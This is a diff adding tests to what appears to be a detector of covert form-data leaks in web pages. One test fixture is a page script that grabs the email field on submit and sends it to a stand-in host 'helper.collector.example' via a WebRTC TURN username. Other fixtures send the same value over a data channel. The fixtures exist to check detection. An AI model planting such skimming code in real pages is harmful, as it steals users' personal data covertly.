@@ -44,6 +44,26 @@ for (const [how, script] of [
     expect(filled.blindSpots).toEqual([]);
   });
 
+test('a value that is handed over as the form is sent counts, though its page is gone before it can be asked', async () => {
+  const script = `document.querySelector('form').addEventListener('submit', () => {
+    const v = document.querySelector('[name=email]').value;
+    ${connect(`{ urls: 'turn:helper.collector.example:443', username: v, credential: 'x' }`)}
+  });`;
+  const { filled } = await fillOn(siteWith(script), { submit: 'real' });
+  expect(filled.trials.at(-1)?.result).toBe('sent');
+  expect(
+    filled.transmissions
+      .filter(({ isSubmission }) => !isSubmission)
+      .map(({ host, channel }) => [host, channel]),
+  ).toEqual([['helper.collector.example', 'webrtc']]);
+});
+
+test('a channel that a page opens before anything is typed, and waits for, is not known either', async () => {
+  const early = `${connect(helper)} p.createDataChannel('a').addEventListener('open', () => undefined); p.setLocalDescription();`;
+  const { filled } = await fillOn(siteWith(early), { submit: 'real' });
+  expect(filled.blindSpots).toHaveLength(1);
+});
+
 test('what a data channel would carry once it is open is not known', async () => {
   const later = `${connect(helper)} const c = p.createDataChannel('a'); c.onopen = () => c.send(document.querySelector('[name=email]').value); p.setLocalDescription();`;
   const { filled } = await fillOn(siteWith(later));
